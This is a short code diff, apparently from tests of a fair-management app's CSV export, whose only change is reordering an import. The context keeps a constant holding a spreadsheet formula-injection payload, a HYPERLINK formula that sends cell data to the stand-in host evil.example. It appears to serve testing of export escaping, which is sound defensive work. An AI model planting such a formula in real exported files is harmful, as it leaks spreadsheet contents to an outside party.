@@ -19,8 +19,8 @@ from app.door.checkin import check_in
 from app.fairs.models import Fair
 from app.floor.kinds import PostKind, Unit
 from app.floor.models import Post
-from app.people.models import Participant
 from app.network.sectors import Sector
+from app.people.models import Participant
 
 BOM = b"\xef\xbb\xbf"
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1;"Kliknij")'
